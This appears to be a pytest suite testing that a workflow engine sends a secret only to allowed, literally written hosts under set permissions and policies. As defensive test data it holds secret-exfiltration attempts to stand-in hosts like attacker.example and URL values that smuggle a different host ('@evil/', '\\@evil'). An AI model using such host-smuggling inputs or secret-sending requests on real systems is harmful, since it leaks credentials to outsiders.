"""The egress: a value goes into an HTTP task's one request, under the five conditions (promise 6)."""

import json
import re
from typing import Any

import pytest

from tests.gate.doors.stage import VALUE, Heard, Stage, dumped, http, loop, reference, system

pytestmark = pytest.mark.promise(6)


def refused(stage: Stage, run: str) -> str:
    """The reason of an HTTP task that was refused for good; nothing left for the listener."""
    found = stage.ended(run)
    assert found["status"] == "FAILED"
    task = stage.task_of(run, "call")
    assert (task["status"], stage.listener.heard) == ("FAILED_WITH_TERMINAL_ERROR", [])
    assert VALUE not in stage.reads(run)
    reason: str = task["reasonForIncompletion"]
    return reason


def policy(stage: Stage, **fields: Any) -> None:
    stage.admin.call("PUT", f"/api/secrets/{stage.secret}/policy", fields)


def execute_only(stage: Stage) -> None:
    """The author may use the secret without seeing it."""
    assert stage.author_id
    stage.admin.revoke(stage.author_id, "SECRET_NAME", stage.secret, "READ")
    stage.admin.grant(stage.author_id, "SECRET_NAME", stage.secret, "EXECUTE")


def test_it_works(stage: Stage) -> None:
    url = f"{stage.listener.url}/v1/{stage.key}?key={stage.key}"
    run = stage.run(http(url, method="POST", headers={"X-Key": f"Bearer {stage.key}"}, body={"key": stage.key, "n": 1}))
    assert stage.ended(run)["status"] == "COMPLETED"
    (heard,) = stage.listener.heard
    assert heard.target == f"/v1/{stage.value}?key={stage.value}"
    assert (heard.headers["X-Key"], json.loads(heard.body)) == (f"Bearer {stage.value}", {"key": stage.value, "n": 1})
    assert stage.task_of(run, "call")["inputData"]["http_request"]["body"] == {"key": stage.key, "n": 1}
    assert stage.value not in stage.reads(run) and stage.value.encode() not in stage.stored()


def test_a_secret_that_is_json_is_sent_by_its_parts(stage: Stage) -> None:
    stage.admin.put_secret(stage.secret, '{"user": "ada", "port": 443}')
    body = {"u": reference(stage.secret, ".user"), "p": reference(stage.secret, ".port")}
    run = stage.run(http(stage.listener.url, method="POST", body=body))
    assert stage.ended(run)["status"] == "COMPLETED"
    assert json.loads(stage.listener.heard[0].body) == {"u": "ada", "p": 443}


def test_a_voucher_that_may_no_longer_use_the_secret_shuts_it(stage: Stage) -> None:
    """Condition 2."""
    stage.save(http(stage.listener.url, body=stage.key))
    stage.admin.revoke(stage.author_id, "SECRET_NAME", stage.secret, "READ")
    assert "who vouched for it, lacks READ" in refused(stage, stage.author.start(stage.name))


def test_a_starter_that_may_no_longer_execute_the_workflow_gets_nothing_sent(stage: Stage) -> None:
    """Condition 3: the right goes while a worker's task stands before the request."""
    stage.save({**system("SIMPLE", "one"), "name": stage.task}, http(stage.listener.url, body=stage.key))
    starter_id, starter = stage.caller("starter")
    stage.admin.grant(starter_id, "WORKFLOW_DEF", stage.name, "EXECUTE")
    run = starter.start(stage.name)
    (task,) = stage.worker.poll(stage.task)
    stage.admin.revoke(starter_id, "WORKFLOW_DEF", stage.name, "EXECUTE")
    stage.worker.complete(task)
    assert refused(stage, run) == f"the starter app:{starter_id} lacks EXECUTE on WORKFLOW_DEF {stage.name}"


def test_a_marker_doubled_at_its_own_place_is_refused(stage: Stage) -> None:
    """Condition 1: in the second round the place holds its marker twice, once as data from the first."""
    call = http(stage.listener.url, method="POST", body=f"{stage.key}${{workflow.variables.before}}")
    run = stage.run(loop(3, call, system("SET_VARIABLE", "k", before="${call.input.http_request.body}")))
    found = stage.ended(run)
    assert (found["status"], [heard.body.decode() for heard in stage.listener.heard]) == ("FAILED", [f"{stage.value}null"])
    assert "does not stand there as it was saved" in dumped(found)


HOSTS_FROM_DATA = {
    "whole": ("${workflow.input.url}/?k=KEY", "URL"),
    "host": ("http://${workflow.input.url}/?k=KEY", "HOST"),
    "a part of the host": ("http://127.0.0.${workflow.input.url}/?k=KEY", "1:PORT"),
    "its port": ("http://127.0.0.1:${workflow.input.url}/?k=KEY", "PORT"),
    "nothing that ends it": ("http://HOST${workflow.input.url}?k=KEY", "/x"),
    "the scheme": ("${workflow.input.url}://HOST/?k=KEY", "http"),
    "a user before it": ("http://HOST${workflow.input.url}/?k=KEY", ""),
}


@pytest.mark.parametrize("how", HOSTS_FROM_DATA)
def test_the_whole_authority_stands_in_the_definition(how: str, stage: Stage) -> None:
    """Condition 4 with a voucher who may READ: up to `/`, `?`, `#` or the end, before the first piece of data."""
    listener = stage.listener
    words = {"URL": listener.url, "HOST": listener.authority, "PORT": str(listener.port), "KEY": stage.key}
    uri, given = (re.sub("URL|HOST|PORT|KEY", lambda word: words[word[0]], text) for text in HOSTS_FROM_DATA[how])
    run = stage.run(http(uri), given={"url": given})
    assert f"is not on the list of hosts of SECRET_NAME {stage.secret}" in refused(stage, run)
    policy(stage, hosts=[stage.listener.authority])
    run = stage.author.start(stage.name, {"url": given})
    assert stage.ended(run)["status"] == "COMPLETED"


def test_data_does_not_move_the_host_away_from_the_one_that_stands_there(stage: Stage) -> None:
    """`http://good${x}` with x = `@evil/`, `.evil`, `\\@evil`: no authority is literal, so nothing leaves."""
    for data in ("@{}/", ".{}", "\\@{}", "#@{}"):
        given = {"x": data.format(stage.listener.authority)}
        run = stage.run(http(f"http://good.example${{workflow.input.x}}?k={stage.key}"), given=given)
        assert refused(stage, run)
        stage.name += "x"


@pytest.mark.parametrize("after", ["/${workflow.input.x}?k=KEY", "?k=KEY&x=${workflow.input.x}", "#${workflow.input.x}KEY", "/KEY/x"])
def test_data_behind_a_literal_authority_is_no_matter(after: str, stage: Stage) -> None:
    run = stage.run(http(stage.listener.url + after.replace("KEY", stage.key)), given={"x": "@evil.example//../x"})
    assert stage.ended(run)["status"] == "COMPLETED"
    assert len(stage.listener.heard) == 1


def test_an_execute_only_voucher_sends_only_to_the_secrets_own_hosts(stage: Stage) -> None:
    execute_only(stage)
    run = stage.run(http(f"{stage.listener.url}/?k={stage.key}"))
    reason = refused(stage, run)
    assert reason.startswith(f"the host ({stage.listener.authority}) is not on the list of hosts of SECRET_NAME {stage.secret}")
    assert reason.endswith(f"app:{stage.author_id} may only EXECUTE it")
    policy(stage, hosts=["other.example"])
    assert refused(stage, stage.author.start(stage.name))
    policy(stage, hosts=["other.example", stage.listener.authority])
    assert stage.ended(stage.author.start(stage.name))["status"] == "COMPLETED"
    assert stage.listener.heard[0].target == f"/?k={stage.value}"
    assert stage.author.raw("GET", f"/api/secrets/{stage.secret}").status_code == 403


PROBES: dict[str, dict[str, Any]] = {
    "the host": {"uri": "https://KEY/"},
    "a part of the host": {"uri": "https://KEY.attacker.example/"},
    "the port": {"uri": "http://127.0.0.1:KEY/"},
    "the whole address": {"uri": "KEY"},
    "the scheme": {"uri": "KEY://127.0.0.1/"},
    "the method": {"method": "KEY"},
    "a timeout": {"readTimeOut": "KEY"},
    "the other timeout": {"connectionTimeOut": "KEY"},
    "the type": {"contentType": "KEY"},
    "all headers": {"headers": "KEY"},
}


@pytest.mark.promise(7)
@pytest.mark.parametrize("probe", PROBES)
def test_an_execute_only_voucher_learns_nothing_from_a_message(probe: str, stage: Stage) -> None:
    """The value is in no reason, and two values that are wrong in different ways give the same one."""
    execute_only(stage)
    request = {"uri": "http://attacker.example/", **json.loads(json.dumps(PROBES[probe]).replace("KEY", stage.key))}
    reasons = []
    for value in (stage.value, "8.8.8.8", "not a host at all {}", "443", "GET", "http://a.example/"):
        stage.admin.put_secret(stage.secret, value)
        run = stage.run(http(**request))
        reasons.append(refused(stage, run).replace(stage.name, "..."))
        assert value == "443" or value not in reasons[-1]  # an id may hold those digits; the reasons being equal covers it
        stage.name += "x"
    assert len(set(reasons)) == 1, reasons


@pytest.mark.promise(7)
def test_a_voucher_that_may_read_is_told_what_is_wrong_but_not_the_value(stage: Stage) -> None:
    run = stage.run(http(stage.listener.url, method=stage.key))
    assert refused(stage, run).startswith("http_request.method: ")


@pytest.mark.parametrize("field", ["hosts", "workflows", "taskTypes", "places"])
def test_the_secrets_own_policy_is_asked_at_the_door(field: str, stage: Stage) -> None:
    """Condition 5."""
    place = f"{stage.name}/call/http_request/body"
    right = {"hosts": stage.listener.authority, "workflows": stage.name, "taskTypes": "HTTP", "places": place}[field]
    stage.save(http(stage.listener.url, method="POST", body=stage.key))
    policy(stage, **{field: ["another"]})
    assert refused(stage, stage.author.start(stage.name)) == f"the policy of SECRET_NAME {stage.secret} does not allow {field} {right}"
    policy(stage, **{field: []})
    assert refused(stage, stage.author.start(stage.name))
    policy(stage, **{field: ["another", right]})
    assert stage.ended(stage.author.start(stage.name))["status"] == "COMPLETED"


@pytest.mark.parametrize(
    ("listed", "address", "allowed"),
    [
        ("127.0.0.1:443", "https://127.0.0.1/", True),
        ("127.0.0.1:443", "https://127.0.0.1:443/", True),
        ("127.0.0.1:443", "http://127.0.0.1/", False),
        ("127.0.0.1:80", "http://127.0.0.1/", True),
        ("127.0.0.1:80", "https://127.0.0.1/", False),
        ("127.0.0.1", "https://127.0.0.1:443/", True),
        ("127.0.0.1:8443", "https://127.0.0.1/", False),
        ("127.0.0.1:443", "https://127.0.0.1:8443/", False),
    ],
)
def test_a_default_port_may_be_written_out(listed: str, address: str, allowed: bool, stage: Stage) -> None:
    policy(stage, hosts=[listed])
    run = stage.run(http(address, body=stage.key, method="POST", connectionTimeOut=200))
    stage.ended(run)
    reason = stage.task_of(run, "call")["reasonForIncompletion"]  # nobody listens at these ports
    assert reason.startswith("Failed to invoke HTTP task" if allowed else f"the policy of SECRET_NAME {stage.secret} does not allow hosts")


def test_a_policy_is_kept_and_shown(stage: Stage) -> None:
    path = f"/api/secrets/{stage.secret}/policy"
    assert stage.admin.call("GET", path) == {"hosts": None, "workflows": None, "taskTypes": None, "places": None}
    given = {"hosts": ["a.example"], "workflows": ["w"], "taskTypes": ["HTTP"], "places": ["w/t/x"]}
    policy(stage, **given)
    assert stage.admin.call("GET", path) == given
    stage.admin.put_secret(stage.secret, "a new value keeps the policy")
    assert stage.admin.call("GET", path) == given


@pytest.mark.parametrize("held", ["READ", "UPDATE"])
def test_setting_a_policy_needs_read_and_update(held: str, stage: Stage) -> None:
    """Who may only change a secret cannot send its value to a host of their own (EXECUTE would follow from UPDATE)."""
    other_id, other = stage.caller("other")
    stage.admin.grant(other_id, "SECRET_NAME", stage.secret, held)
    missing = "UPDATE" if held == "READ" else "READ"
    answer = other.raw("PUT", f"/api/secrets/{stage.secret}/policy", {"hosts": ["attacker.example"]})
    assert (answer.status_code, f"(missing: {missing} on SECRET_NAME {stage.secret})" in answer.json()["message"]) == (403, True)


def test_a_redirect_takes_no_value_elsewhere(stage: Stage) -> None:
    stage.listener.say = lambda heard: (302, {"Location": f"http://localhost:{stage.listener.port}/elsewhere"}, b"")
    run = stage.run(http(stage.listener.url, headers={"X-Key": stage.key}))
    stage.ended(run)
    assert [heard.target for heard in stage.listener.heard] == ["/"]


def test_a_request_without_a_secret_needs_no_literal_host(stage: Stage) -> None:
    run = stage.run(http("${workflow.input.url}"), given={"url": stage.listener.url})
    assert stage.ended(run)["status"] == "COMPLETED"
    assert isinstance(stage.listener.heard[0], Heard)


def test_a_request_of_a_child_is_judged_by_its_roots_starter(stage: Stage) -> None:
    stage.save(http(stage.listener.url, body=stage.key, method="POST"))
    parent = f"{stage.name}-parent"
    stage.author.save({"name": parent, "version": 1, "tasks": [{**system("SUB_WORKFLOW", "c"), "subWorkflowParam": {"name": stage.name}}]})
    starter_id, starter = stage.caller("starter")
    stage.admin.grant(starter_id, "WORKFLOW_DEF", parent, "EXECUTE")
    run = starter.start(parent)
    assert stage.ended(run)["status"] == "COMPLETED"
    assert [heard.body.decode() for heard in stage.listener.heard] == [stage.value]
